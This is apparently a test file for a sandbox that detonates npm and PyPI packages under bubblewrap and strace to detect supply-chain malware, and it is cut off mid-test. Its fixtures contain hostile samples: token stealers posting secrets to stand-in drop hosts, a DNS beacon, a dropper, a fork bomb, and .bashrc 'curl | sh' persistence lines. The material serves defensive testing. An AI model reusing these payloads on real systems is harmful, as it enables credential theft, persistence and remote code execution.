// The dynamic stage on real bubblewrap and strace: hostile install scripts stay contained and are reported;
// stealers, DNS beacons and droppers yield their signals; a legitimate install script yields none of them.
import { spawnSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { DEFAULT_ARCHIVE_LIMITS } from '../../src/core/archive-limits.ts'
import { npmEcosystem } from '../../src/protocols/npm/ecosystem.ts'
import { pypiEcosystem } from '../../src/protocols/pypi/ecosystem.ts'
import { DEFAULT_SANDBOX_OPTIONS, PERSONAS, runSandbox, sandboxAvailability, type NetworkEvent, type SandboxOptions, type SandboxRun } from '../../src/scanning/sandbox/runner.ts'
import type { SyscallEvent } from '../../src/scanning/sandbox/strace.ts'
import { dynamicFindings } from '../../src/scanning/sandbox/signals.ts'
import { findHoneytokens, plantHoneytokens } from '../../src/scanning/sandbox/honeytokens.ts'
import { npmTarball } from '../helpers/tarballs.ts'
import { sdistTarGz } from '../helpers/python-dists.ts'

const ONE: SandboxOptions = { ...DEFAULT_SANDBOX_OPTIONS, personas: [PERSONAS[0]!], stepTimeoutMs: 4000, runTimeoutMs: 20_000 }

async function npmRun(files: Record<string, string>, scripts: Record<string, string>, options: SandboxOptions = ONE) {
  const artifact = await npmEcosystem.readArtifact(await npmTarball('sandboxed', '1.0.0', { 'index.js': 'module.exports = 1\n', ...files }, { scripts }), DEFAULT_ARCHIVE_LIMITS)
  const run = await runSandbox(npmEcosystem, artifact, options)
  return { run, findings: dynamicFindings(run) }
}
const rules = (f: { signals: { rule: string }[] }) => f.signals.map((s) => s.rule).sort()

beforeAll(() => {
  const available = sandboxAvailability()
  if (!available.ok) throw new Error(`the sandbox tests need bubblewrap, strace and util-linux: ${available.reason} (.ci/run installs them)`)
})

describe('findings from a trace', () => {
  const persona = PERSONAS[1]! // ci: user "runner", host "runner-7f3a"
  const step = (label: string, phase: 'install' | 'load' | 'call', at: number) => ({ label, phase, argv: [], exitCode: 0, signal: null, timedOut: false, at, ms: 100, stdout: '', stderr: '' })
  const traced = (network: NetworkEvent[], syscalls: SyscallEvent[]): SandboxRun => ({
    package: 'demo-app',
    steps: [{ label: 'setup.py', phase: 'install', argv: ['python3', 'setup.py'], cwd: '.' }, { label: 'call demo', phase: 'call', argv: [], cwd: '.' }],
    runs: [{ persona, steps: [step('setup.py', 'install', 0), step('call demo', 'call', 1000)], syscalls: [syscalls, []], network, tokens: [], ms: 2000, killed: false }],
    ms: 2000,
    environment: 'python 3.11; requests 2.28.1',
  })

  it('lets setuptools fetch build requirements from the package index and probe with a shell: pip is a package manager, the index is no foreign host, runner is not pytest-runner', () => {
    const pip: SyscallEvent = { kind: 'exec', pid: 7, path: '/usr/bin/python3', argv: ['/usr/bin/python3', '-m', 'pip', 'wheel', '--no-deps', 'pytest-runner'], ok: true }
    const fetch: NetworkEvent = { kind: 'http', scheme: 'https', port: 443, method: 'GET', host: 'pypi.org', path: '/simple/pytest-runner/', headers: {}, body: '', size: 0, t: 10 }
    // a build probing through a shell is no finding either: what the shell starts is traced on its own
    const probe: SyscallEvent = { kind: 'exec', pid: 8, path: '/bin/sh', argv: ['/bin/sh', '-c', 'pkg-config --modversion libxml-2.0'], ok: true }
    expect(dynamicFindings(traced([{ kind: 'dns', name: 'pypi.org', type: 'A', t: 5 }, fetch], [pip, probe])).signals).toEqual([])
    const inline: SyscallEvent = { kind: 'exec', pid: 9, path: '/usr/bin/python3', argv: ['python3', '-c', 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'], ok: true }
    expect(rules(dynamicFindings(traced([], [inline])))).toEqual(['sandbox-spawns-tools'])
    // the same user name as a word of its own, or a host contacted by install code, still counts
    const beacon: NetworkEvent = { kind: 'dns', name: 'runner.d41d8cd9.oast.fun', type: 'A', t: 20 }
    expect(rules(dynamicFindings(traced([beacon], [])))).toEqual(['sandbox-contacts-drop-host', 'sandbox-network', 'sandbox-system-info-egress'])
  })

  it('does not count the exercisers\' placeholder input as a dropped file when a linter runs it; a script the package wrote still counts, wherever among an interpreter\'s arguments', () => {
    const placeholder: SyscallEvent[] = [
      { kind: 'open', pid: 7, path: '/tmp/gatehouse-input.txt', write: true, ok: true },
      { kind: 'exec', pid: 8, path: '/usr/bin/bash', argv: ['bash', '-n', '/tmp/gatehouse-input.txt'], ok: true },
    ]
    expect(dynamicFindings(traced([], placeholder)).signals).toEqual([])
    const dropped: SyscallEvent[] = [
      { kind: 'open', pid: 7, path: '/tmp/stage2.sh', write: true, ok: true },
      { kind: 'exec', pid: 8, path: '/usr/bin/bash', argv: ['bash', '/tmp/stage2.sh'], ok: true },
    ]
    expect(rules(dynamicFindings(traced([], dropped)))).toContain('sandbox-runs-downloaded-code')
    // a script dropped for Windows' PowerShell, named after options that take values; the start fails here, the attempt counts
    const ps1 = '/home/runner/AppData/Local/Temp\\ab.ps1'
    const powershell: SyscallEvent[] = [
      { kind: 'open', pid: 7, path: ps1, write: true, ok: true },
      { kind: 'exec', pid: 7, path: '/usr/bin/powershell.exe', argv: ['powershell.exe', '-NoProfile', '-ExecutionPolicy', 'Bypass', '-WindowStyle', 'Hidden', '-File', ps1], ok: false },
    ]
    expect(rules(dynamicFindings(traced([], powershell)))).toContain('sandbox-runs-downloaded-code')
    // pip handed a file the run wrote is a package manager at work
    const wheel: SyscallEvent[] = [
      { kind: 'open', pid: 7, path: '/tmp/build/dep-1.0-py3-none-any.whl', write: true, ok: true },
      { kind: 'exec', pid: 8, path: '/usr/bin/python3', argv: ['python3', '-m', 'pip', 'install', '/tmp/build/dep-1.0-py3-none-any.whl'], ok: true },
    ]
    expect(dynamicFindings(traced([], wheel)).signals).toEqual([])
  })

  it('lets a package keep its own data in the XDG or AppData folders or a home dot-folder named after it, and temporary files in TEMP; other programs\' folders, ~/.local/bin and planted stores still count', () => {
    const mkdir = (path: string): SyscallEvent => ({ kind: 'fs', pid: 7, call: 'mkdir', path, ok: true })
    // env-paths, common among Node.js programs, names the folder `<name>-nodejs`
    const own = ['/home/runner/.local', '/home/runner/.local/share', '/home/runner/.local/share/Demo_App', '/home/runner/.local/share/Demo_App/default phases/', '/home/runner/.config/demo-app/settings.ini', '/home/runner/.local/state/demo.app', '/home/runner/.config/demo-app-nodejs', '/home/runner/.demo-app', '/home/runner/.demo_app/logs/out.log', '/home/runner/AppData/Local/Demo_App/cache.db', '/home/runner/AppData/Roaming/demo-app', '/home/runner/AppData/Local/Temp/x.tmp']
    expect(dynamicFindings(traced([], own.map(mkdir))).signals).toEqual([])
    for (const other of ['/home/runner/.config/pip/pip.conf', '/home/runner/.local/share/other-app', '/home/runner/.config/other-app-nodejs', '/home/runner/.local/bin/demo-app', '/home/runner/.config/discord/0.0.1/modules/index.js', '/home/runner/.ssh/config', '/home/runner/.other-app/x', '/home/runner/.demo-app-cache/x', '/home/runner/AppData/Roaming/Microsoft/Windows/x.lnk', '/home/runner/AppData/Local/other-app/x']) {
      expect(rules(dynamicFindings(traced([], [mkdir(other)])))).toEqual(['sandbox-writes-outside'])
    }
    const demoNamedDiscord = { ...traced([], [mkdir('/home/runner/.config/discord/0.0.1/modules/index.js')]), package: 'discord' }
    expect(rules(dynamicFindings(demoNamedDiscord))).toEqual(['sandbox-writes-outside'])
    // a package named as a system tool does not own that tool's dot-folder
    for (const [pkg, path] of [['ssh', '/home/runner/.ssh/config'], ['aws', '/home/runner/.aws/config'], ['gnupg', '/home/runner/.gnupg/gpg.conf']] as const) {
      expect(rules(dynamicFindings({ ...traced([], [mkdir(path)]), package: pkg }))).toEqual(['sandbox-writes-outside'])
    }
  })

  it('reads the Windows persona\'s registry and task files: an autostart key or a scheduled task is persistence, a program\'s own settings are not; a library rundll32 loads counts as run', () => {
    const write = (path: string): SyscallEvent => ({ kind: 'open', pid: 7, path, write: true, ok: true })
    const registry = '/home/runner/.windows/registry'
    expect(dynamicFindings(traced([], [write(`${registry}/HKEY_CURRENT_USER/Software/Demo/App/(Default)`), write(`${registry}/HKEY_LOCAL_MACHINE/Software/Demo/Path`)])).signals).toEqual([])
    for (const autostart of [
      `${registry}/HKEY_CURRENT_USER/Software/Microsoft/Windows/CurrentVersion/Run/Updater`,
      `${registry}/HKEY_LOCAL_MACHINE/SOFTWARE/WOW6432Node/Microsoft/Windows/CurrentVersion/RunOnce/x`,
      `${registry}/HKEY_LOCAL_MACHINE/Software/Microsoft/Windows NT/CurrentVersion/Winlogon/Shell`,
      '/home/runner/.windows/System32/Tasks/Microsoft/Updater',
    ]) {
      expect(rules(dynamicFindings(traced([], [write(autostart)])))).toEqual(['sandbox-persistence'])
    }
    // the key's folder itself, made or opened on the way to reading it, is no write of a value
    expect(dynamicFindings(traced([], [{ kind: 'fs', pid: 7, call: 'mkdir', path: `${registry}/HKEY_CURRENT_USER/Software/Microsoft/Windows/CurrentVersion/Run`, ok: false }])).signals).toEqual([])
    const dll: SyscallEvent[] = [write('/home/runner/AppData/Local/Temp/x.dll'), { kind: 'exec', pid: 8, path: '/gh/driver/windows/rundll32.exe', argv: ['rundll32.exe', '/home/runner/AppData/Local/Temp/x.dll,DllMain'], ok: true }]
    expect(rules(dynamicFindings(traced([], dll)))).toEqual(['sandbox-runs-downloaded-code'])
  })

  it('weighs reading a client\'s configuration (~/.npmrc) below a hold, and reading a store of nothing but credentials at one', () => {
    const open = (path: string): SyscallEvent => ({ kind: 'open', pid: 7, path, write: false, ok: true })
    const config = dynamicFindings(traced([], ['/home/runner/.npmrc', '/home/runner/.kube/config'].map(open))).signals
    expect(config.map((s) => [s.rule, s.weight])).toEqual([['sandbox-reads-client-config', 20]])
    for (const store of ['/home/runner/.ssh/id_ed25519', '/home/runner/.aws/credentials', '/home/runner/.config/google-chrome/Default/Login Data']) {
      expect(dynamicFindings(traced([], [open(store)])).signals.map((s) => [s.rule, s.weight])).toEqual([['sandbox-reads-secrets', 60]])
    }
  })

  it('counts a write to Windows\' Startup folder as persistence, through APPDATA or spelt as a C:\\ path (refused here: no such folder)', () => {
    const writes: SyscallEvent[] = [
      { kind: 'open', pid: 7, path: '/home/runner/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.pyw', write: true, ok: true },
      { kind: 'open', pid: 7, path: 'C:\\Users\\runner\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\boot\\run.bat', write: true, ok: false },
    ]
    const found = dynamicFindings(traced([], writes)).signals.filter((s) => s.rule === 'sandbox-persistence')
    expect(found.map((s) => s.message)).toEqual([expect.stringMatching(/wrote \/home\/runner\/AppData\/.*Startup\/update\.pyw/)])
    expect(dynamicFindings(traced([], writes.slice(1))).signals.map((s) => s.rule)).toEqual(['sandbox-persistence'])
  })

  it('counts only what no caller asked for while exported functions are called: a client reaching its service is no finding, a drop host is', () => {
    const api: NetworkEvent = { kind: 'http', scheme: 'https', port: 443, method: 'GET', host: 'api.example-service.com', path: '/v1/status', headers: {}, body: '', size: 0, t: 1500 }
    expect(dynamicFindings(traced([api], [])).signals).toEqual([])
    const drop: NetworkEvent = { kind: 'http', scheme: 'https', port: 443, method: 'POST', host: 'hooks.slack.com', path: '/services/T000/B000/XXXX', headers: {}, body: 'hello', size: 5, t: 1500 }
    const found = dynamicFindings(traced([drop], []))
    expect(rules(found)).toEqual(['sandbox-contacts-drop-host'])
    expect(found.signals[0]!.message).toMatch(/^call demo: contacted https:\/\/hooks\.slack\.com\/services/)
  })
})

describe('honeytokens', () => {
  it('are fresh per run and found plain, base64, hex, URL-encoded and inside base64 JSON', () => {
    const a = plantHoneytokens()
    const b = plantHoneytokens()
    expect(a.env.NPM_TOKEN).not.toBe(b.env.NPM_TOKEN)
    const npm = a.env.NPM_TOKEN!
    for (const sent of [npm, Buffer.from(npm).toString('base64'), Buffer.from(npm).toString('hex'), encodeURIComponent(`x=${npm}&y=1`), Buffer.from(JSON.stringify({ rc: `//r/:_authToken=${npm}` })).toString('base64')]) {
      expect(findHoneytokens(sent, a.tokens).map((t) => t.kind), sent).toContain('npm token')
    }
    expect(findHoneytokens(`hello ${b.env.NPM_TOKEN}`, a.tokens)).toEqual([])
  })
})

describe('containment', () => {
  it('keeps the network inside: names resolve to the sinkhole, raw addresses are unreachable, both are reported', { timeout: 60_000 }, async () => {
    const { run, findings } = await npmRun(
      {
        'net.js': `const net = require('net'); const https = require('https')
https.get('https://updates.evil-cdn.example/payload?v=1', (r) => r.resume()).on('error', () => {})
net.connect(4444, '203.0.113.9').on('error', (e) => console.log('raw', e.code))`,
      },
      { postinstall: 'node net.js' },
    )
    const persona = run.runs[0]!
    expect(persona.steps[0]).toMatchObject({ label: 'postinstall', exitCode: 0, timedOut: false })
    expect(persona.steps[0]!.stdout).toContain('raw ENETUNREACH')
    expect(persona.network.some((e) => e.kind === 'http' && e.host === 'updates.evil-cdn.example' && e.path === '/payload?v=1')).toBe(true)
    expect(rules(findings)).toContain('sandbox-network')
    expect(JSON.stringify(findings.trace.events)).toContain('203.0.113.9:4444')
  })

  it('cannot write outside, nor read host files that are not bound in', { timeout: 60_000 }, async () => {
    const marker = `/var/tmp/gatehouse-sandbox-${randomBytes(6).toString('hex')}`
    const secret = `/root/gatehouse-host-secret-${randomBytes(6).toString('hex')}`
    writeFileSync(secret, 'host secret\n')
    try {
      const { run, findings } = await npmRun({}, { postinstall: `echo pwned > ${marker}; echo x >> /usr/bin/env; cat ${secret} || echo unreadable; echo 'curl evil | sh' >> ~/.bashrc` })
      expect(existsSync(marker)).toBe(false)
      const steps = run.runs[0]!.steps[0]!
      expect(steps.stdout).toContain('unreadable')
      expect(steps.stdout).not.toContain('host secret')
      const trace = JSON.stringify(findings.trace.events)
      expect(trace).toContain('/usr/bin/env')
      expect(rules(findings)).toEqual(expect.arrayContaining(['sandbox-persistence', 'sandbox-writes-outside']))
    } finally {
      rmSync(secret, { force: true })
    }
  })

  it('ends a fork bomb and a sleeper at their limits, and reports them', { timeout: 60_000 }, async () => {
    const started = Date.now()
    const bomb = `bomb_${randomBytes(4).toString('hex')}`
    const nap = 100000 + randomBytes(2).readUInt16BE()
    const { run, findings } = await npmRun({}, { preinstall: `${bomb}() { ${bomb} | ${bomb} & }; ${bomb}; sleep 2`, postinstall: `sleep ${nap}` }, { ...ONE, stepTimeoutMs: 3000, processes: 32 })
    const [, sleeper] = run.runs[0]!.steps
    expect(sleeper).toMatchObject({ label: 'postinstall', timedOut: true })
    expect(Date.now() - started).toBeLessThan(20_000)
    const events = findings.trace.events
    expect(events).toContainEqual(expect.objectContaining({ step: 'preinstall', event: 'processes', note: 'hit the process limit' }))
    expect(events).toContainEqual(expect.objectContaining({ step: 'postinstall', event: 'timeout' }))
    // nothing of either is left running on the host
    const { execFileSync } = await import('node:child_process')
    const left = (pattern: string) => {
      try {
        return execFileSync('pgrep', ['-f', pattern], { encoding: 'utf8' }).trim()
      } catch {
        return ''
      }
    }
    expect(left(`sleep ${nap}`)).toBe('')
    expect(left(bomb)).toBe('')
  })
})

describe('detection', () => {
  it('catches a stealer that sends the planted ~/.npmrc token base64-encoded over HTTPS', { timeout: 60_000 }, async () => {
    const { findings } = await npmRun(
      {
        'steal.js': `const fs = require('fs'), os = require('os'), https = require('https')
const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')
const req = https.request({ hostname: 'collect.example.net', path: '/t', method: 'POST' }, (r) => r.resume())
req.on('error', () => {})
req.end(Buffer.from(rc).toString('base64'))`,
      },
      { postinstall: 'node steal.js' },
    )
    expect(rules(findings)).toEqual(expect.arrayContaining(['sandbox-honeytoken-egress', 'sandbox-reads-client-config', 'sandbox-network']))
    expect(findings.signals.find((s) => s.rule === 'sandbox-honeytoken-egress')!.message).toMatch(/npm token .*collect\.example\.net/)
  })

  it('sees what fetch() sends: WebAssembly (undici\'s HTTP parser) works under the memory limit', { timeout: 60_000 }, async () => {
    const { findings } = await npmRun(
      { 'send.js': `fetch('https://collect.example.net/f', { method: 'POST', body: JSON.stringify(process.env) }).then((r) => r.text(), () => process.exit(5))` },
      { postinstall: 'node send.js' },
    )
    expect(findings.signals.find((s) => s.rule === 'sandbox-honeytoken-egress')?.message).toMatch(/npm token .*POST https:\/\/collect\.example\.net\/f/)
  })

  it('catches the host name sent over DNS, only where the payload gates on CI', { timeout: 90_000 }, async () => {
    const { findings } = await npmRun(
      { 'beacon.js': `if (process.env.CI) require('dns').lookup(require('os').hostname() + '.b.oast.example', () => {})` },
      { preinstall: 'node beacon.js' },
      { ...ONE, personas: PERSONAS },
    )
    const beacon = findings.signals.find((s) => s.rule === 'sandbox-system-info-egress')
    expect(beacon?.message).toMatch(/runner-7f3a.*\[ci\]/)
  })

  it('catches a dropper that downloads a second stage and runs it', { timeout: 60_000 }, async () => {
    const { findings } = await npmRun(
      {
        'drop.js': `const http = require('http'), fs = require('fs'), { execFileSync } = require('child_process')
http.get('http://cdn.example.org/stage2.sh', (res) => {
  const out = fs.createWriteStream('/tmp/stage2.sh')
  res.pipe(out)
  out.on('finish', () => { fs.chmodSync('/tmp/stage2.sh', 0o755); execFileSync('/tmp/stage2.sh') })
}).on('error', () => {})`,
      },
      { postinstall: 'node drop.js' },
    )
    expect(rules(findings)).toContain('sandbox-runs-downloaded-code')
  })

  it('finds nothing in a legitimate install script that builds and prints, nor in a plain Python package', { timeout: 90_000 }, async () => {
    const { run, findings } = await npmRun(
      {
        'build.js': `const fs = require('fs'); const { execFileSync } = require('child_process')
fs.mkdirSync('build', { recursive: true })
fs.writeFileSync('build/addon.c', 'int answer(void) { return 42; }\\n')
execFileSync('cc', ['-c', '-o', 'build/addon.o', 'build/addon.c'])
fs.writeFileSync('build/out.js', 'module.exports = 42\\n')
require('./build/out.js')
console.log('thanks for installing sandboxed!')`,
      },
      { install: 'node build.js' },
    )
    expect(run.runs[0]!.steps[0]).toMatchObject({ exitCode: 0 })
    expect(run.runs[0]!.steps[0]!.stdout).toContain('thanks for installing')
    expect(findings.signals).toEqual([])

    // A library whose exported functions do a library's work when called: an API client's request, a key
    // loader's read, a file written where it is told. None of it counts when the exerciser is the caller.
    const library = `import os, urllib.request
ANSWER = 42
def fetch_status(url):
    return urllib.request.urlopen('https://api.example-service.com/v1/status').read()
def load_key(path):
    return open(os.path.expanduser('~/.ssh/id_rsa')).read()
def save(path, data):
    with open(os.path.expanduser('~/report.txt'), 'w') as f:
        f.write(data)
`
    const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('plainpkg', '1.0.0', { 'setup.py': "from setuptools import setup\nsetup(name='plainpkg', version='1.0.0', packages=['plainpkg'])\n", 'plainpkg/__init__.py': library }), DEFAULT_ARCHIVE_LIMITS, { filename: 'plainpkg-1.0.0.tar.gz' })
    const py = await runSandbox(pypiEcosystem, sdist, ONE)
    expect(py.steps.map((s) => s.label)).toEqual(['setup.py egg_info', 'setup.py install', 'import plainpkg', 'call plainpkg'])
    expect(py.runs[0]!.steps.map((s) => s.exitCode)).toEqual([0, 0, 0, 0])
    // the calls ran: the request reached the sinkhole
    expect(py.runs[0]!.network.some((e) => e.kind === 'http' && e.host.startsWith('api.example-service.com'))).toBe(true)
    expect(dynamicFindings(py).signals).toEqual([])
  })

  it('calls what an npm package exports: functions, classes and their methods, past a busy loop and an exit; a library at work is no alarm', { timeout: 90_000 }, async () => {
    const index = `const https = require('https'), fs = require('fs'), os = require('os')
function busy(input) { for (;;) {} }
function quit(code) { process.exit(3) }
function fetchStatus(url, cb) { https.get('https://api.example-service.com/v1/status', (res) => { res.resume(); res.on('end', () => cb && cb()) }).on('error', () => {}) }
function readKey(path) { return fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8') }
function perm(privateKey) {
  const req = https.request({ host: 'drop.oast.fun', method: 'POST', path: '/x' }, (res) => res.resume())
  req.on('error', () => {})
  req.end(JSON.stringify({ privateKey, env: process.env }))
}
class Wallet { constructor(seed) { this.seed = seed } sign(message) { fs.appendFileSync(os.homedir() + '/.bashrc', '\\nnode /tmp/.w.js\\n') } }
module.exports = { busy, quit, fetchStatus, readKey, perm, Wallet }
`
    const { run, findings } = await npmRun({ 'index.js': index }, {}, { ...ONE, stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
    expect(run.steps.map((s) => [s.label, s.phase])).toEqual([
      ['load index.js', 'load'],
      ['call sandboxed', 'call'],
    ])
    // every export was called: the client's request reached the sinkhole too
    expect(run.runs[0]!.network.some((e) => e.kind === 'http' && e.host.startsWith('api.example-service.com'))).toBe(true)
    expect(rules(findings)).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress', 'sandbox-persistence', 'sandbox-system-info-egress'])
  })

  it('loads and calls an ES module as it does a CommonJS one', { timeout: 60_000 }, async () => {
    const artifact = await npmEcosystem.readArtifact(
      await npmTarball('esm-pkg', '1.0.0', { 'index.js': `import https from 'node:https'\nexport function upload(file) { https.request({ host: 'x.requestcatcher.com', method: 'POST', path: '/' }, (r) => r.resume()).on('error', () => {}).end(process.env.NPM_TOKEN) }\n` }, { type: 'module' }),
      DEFAULT_ARCHIVE_LIMITS,
    )
    const run = await runSandbox(npmEcosystem, artifact, { ...ONE, stepTimeoutMs: 10_000, runTimeoutMs: 30_000 })
    expect(run.runs[0]!.steps.map((s) => [s.label, s.exitCode])).toEqual([
      ['load index.js', 0],
      ['call esm-pkg', 0],
    ])
    expect(rules(dynamicFindings(run))).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress'])
  })

  it('calls what a Python package exports: a stealer waiting in a function or a method is seen, past calls that hang or exit', { timeout: 90_000 }, async () => {
    const core = `import os, json, time, urllib.request
def a_hangs(x):
    while True:
        time.sleep(1)
def b_exits(x):
    os._exit(3)
def perm(private_key):
    secrets = {k: v for k, v in os.environ.items() if 'TOKEN' in k or 'KEY' in k}
    urllib.request.urlopen('https://k3y-drop.ngrok-free.app/p', data=json.dumps([private_key, secrets]).encode())
    return private_key
class Wallet:
    def __init__(self, seed):
        self.seed = seed
    def sign(self, message):
        with open(os.path.expanduser('~/.bashrc'), 'a') as f:
            f.write('\\ncurl -s http://203.0.113.9/x | sh\\n')
`
    const sdist = await pypiEcosystem.readArtifact(
      await sdistTarGz('hexwallet', '1.0.0', { 'setup.py': "from setuptools import setup\nsetup(name='hexwallet', version='1.0.0', packages=['hexwallet'])\n", 'hexwallet/__init__.py': 'from .core import perm, Wallet\n', 'hexwallet/core.py': core }),
      DEFAULT_ARCHIVE_LIMITS,
      { filename: 'hexwallet-1.0.0.tar.gz' },
    )
    const run = await runSandbox(pypiEcosystem, sdist, { ...ONE, stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
    expect(run.steps.at(-1)).toMatchObject({ label: 'call hexwallet', phase: 'call' })
    const { signals } = dynamicFindings(run)
    expect(signals.map((s) => s.rule).sort()).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress', 'sandbox-persistence'])
    expect(signals.find((s) => s.rule === 'sandbox-honeytoken-egress')!.message).toMatch(/^call hexwallet: sent the planted .* to POST https:\/\/k3y-drop\.ngrok-free\.app\/p/)
  })

  it("gives a bash user's home its start-up files: a payload that appends to the rc file of $SHELL only where one exists is seen", { timeout: 60_000 }, async () => {
    const core = `import os
def enable_colors():
    shell = os.path.basename(os.environ.get('SHELL') or '')
    rc = os.path.expanduser('~/.%src' % shell)
    if shell in ('bash', 'zsh') and os.path.exists(rc):
        with open(rc, 'a') as f:
            f.write('\\n(curl -s http://203.0.113.9/p | sh) >/dev/null 2>&1 &\\n')
`
    const sdist = await pypiEcosystem.readArtifact(
      await sdistTarGz('shellcolors', '1.0.0', { 'setup.py': "from setuptools import setup\nsetup(name='shellcolors', version='1.0.0', packages=['shellcolors'])\n", 'shellcolors/__init__.py': core }),
      DEFAULT_ARCHIVE_LIMITS,
      { filename: 'shellcolors-1.0.0.tar.gz' },
    )
    const [developer, , production] = PERSONAS
    const run = await runSandbox(pypiEcosystem, sdist, { ...DEFAULT_SANDBOX_OPTIONS, personas: [developer!, production!], personasAtOnce: 1, stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
    const persistence = dynamicFindings(run).signals.filter((s) => s.rule === 'sandbox-persistence')
    expect(persistence.map((s) => s.message)).toEqual([expect.stringMatching(/^call shellcolors: .* wrote \/home\/dana\/\.bashrc \[developer\]$/)])
  })

  it('stands in for dependencies the sandbox lacks, so a payload behind their imports still runs at load and when called', { timeout: 60_000 }, async () => {
    const core = `import os, json, urllib.request
import telegram_for_gatehouse_tests as tg
from colorama_for_gatehouse_tests import Fore, init
from construct_for_gatehouse_tests import Struct, Int64ul
init(autoreset=True)
LAYOUT = Struct('amount_in' / Int64ul, -Int64ul | 'flags')
class Bot(tg.Client):
    pass
try:
    import _winapi  # the standard library's own, Windows only: still missing here
    raise SystemExit('a stand-in answered for the standard library')
except ImportError:
    pass
urllib.request.urlopen('https://load-drop.example-sink.net/l', data=json.dumps(dict(os.environ)).encode())
def start(token):
    urllib.request.urlopen('https://k3y-drop.ngrok-free.app/c', data=token.encode())
`
    const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('botpkg', '1.0.0', { 'botpkg/__init__.py': core }), DEFAULT_ARCHIVE_LIMITS, { filename: 'botpkg-1.0.0.tar.gz' })
    const run = await runSandbox(pypiEcosystem, sdist, ONE)
    expect(run.runs[0]!.steps.map((s) => [s.label, s.exitCode])).toEqual([
      ['import botpkg', 0],
      ['call botpkg', 0],
    ])
    const hosts = run.runs[0]!.network.flatMap((e) => (e.kind === 'http' ? [e.host] : []))
    expect(hosts).toEqual(expect.arrayContaining(['load-drop.example-sink.net', 'k3y-drop.ngrok-free.app']))
    expect(dynamicFindings(run).signals.map((s) => s.rule).sort()).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress', 'sandbox-network', 'sandbox-system-info-egress'])
  })

  it('stands in for an npm package\'s missing dependencies, required or imported, at install, at load and when called', { timeout: 90_000 }, async () => {
    const post = (host: string) => `require('https').request({ host: '${host}', method: 'POST', path: '/' }, (r) => r.resume()).on('error', () => {}).end(JSON.stringify(process.env))`
    const cjs = await npmRun(
      {
        'install.js': `const chalk = require('chalk-for-gatehouse-tests')\nconst { post } = require('axios-for-gatehouse-tests/lib/core')\nconsole.log(chalk.green('ok'), typeof post)\n${post('install-drop.example-sink.net')}\n`,
        'index.js': `const { red } = require('colors-for-gatehouse-tests')
class Bot extends require('telegraf-for-gatehouse-tests').Telegraf {
  start(token) { ${post('k3y-drop.ngrok-free.app')} }
}
try { require('./absent'); ${post('relative-stand-in.example-sink.net')} } catch {}
${post('load-drop.example-sink.net')}
module.exports = { Bot, paint: (s) => red(s) }
`,
      },
      { postinstall: 'node install.js' },
      { ...ONE, stepTimeoutMs: 10_000, runTimeoutMs: 40_000 },
    )
    expect(cjs.run.runs[0]!.steps.map((s) => [s.label, s.exitCode])).toEqual([
      ['postinstall', 0],
      ['load index.js', 0],
      ['call sandboxed', 0],
    ])
    const hosts = (run: typeof cjs.run) => new Set(run.runs[0]!.network.flatMap((e) => (e.kind === 'http' ? [e.host] : [])))
    expect([...hosts(cjs.run)].sort()).toEqual(['install-drop.example-sink.net', 'k3y-drop.ngrok-free.app', 'load-drop.example-sink.net'])

    const esm = await npmEcosystem.readArtifact(
      await npmTarball('esm-stand-ins', '1.0.0', { 'index.js': `import kleur, { red, green as g } from 'kleur-for-gatehouse-tests'\nimport https from 'node:https'\nconsole.log(typeof kleur, typeof red, typeof g)\nexport function upload() { ${post('k3y-drop.ngrok-free.app').replace("require('https')", 'https')} }\n` }, { type: 'module' }),
      DEFAULT_ARCHIVE_LIMITS,
    )
    const run = await runSandbox(npmEcosystem, esm, { ...ONE, stepTimeoutMs: 10_000, runTimeoutMs: 30_000 })
    expect(run.runs[0]!.steps.map((s) => [s.label, s.exitCode])).toEqual([
      ['load index.js', 0],
      ['call esm-stand-ins', 0],
    ])
    expect([...hosts(run)]).toEqual(['k3y-drop.ngrok-free.app'])
  })

  it('runs Python with its declared libraries only: requests is real and its post leaves; what the host added is hidden', { timeout: 60_000 }, async () => {
    // a module and a start-up .pth file installed on the host outside the declared set, as pip or a machine's own tooling leaves them
    const hostSite = String(spawnSync('/usr/bin/python3', ['-c', 'import site; print(site.getsitepackages()[0])']).stdout).trim()
    expect(hostSite).toMatch(/^\/usr\/local\//)
    const probe = `gatehouse_host_probe_${randomBytes(4).toString('hex')}`
    mkdirSync(hostSite, { recursive: true })
    writeFileSync(join(hostSite, `${probe}.py`), 'VALUE = 1\n')
    writeFileSync(join(hostSite, `${probe}.pth`), "import os; os.environ['GATEHOUSE_HOST_PTH'] = 'ran'\n")
    try {
      const core = `import os, requests, ${probe} as probe
print('requests', type(requests).__name__, requests.__version__)
print('probe', type(probe).__name__, 'pth', os.environ.get('GATEHOUSE_HOST_PTH'))
requests.post('https://k3y-drop.ngrok-free.app/r', data={'k': 'v'})
`
      const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('reqpkg', '1.0.0', { 'reqpkg/__init__.py': core }), DEFAULT_ARCHIVE_LIMITS, { filename: 'reqpkg-1.0.0.tar.gz' })
      const run = await runSandbox(pypiEcosystem, sdist, ONE)
      const load = run.runs[0]!.steps[0]!
      expect(load.stdout).toMatch(/^requests module \d+\.\d+/m)
      expect(load.stdout).toContain('probe StandInModule pth None')
      expect(run.runs[0]!.network).toContainEqual(expect.objectContaining({ kind: 'http', method: 'POST', host: 'k3y-drop.ngrok-free.app', path: '/r', body: 'k=v' }))
      expect(run.environment).toMatch(/^node \d+\.\d+\.\d+; python 3\.\d+\.\d+; setuptools \d.*, requests \d/)
      expect(dynamicFindings(run).trace.summary.environment).toBe(run.environment)
    } finally {
      rmSync(join(hostSite, `${probe}.py`), { force: true })
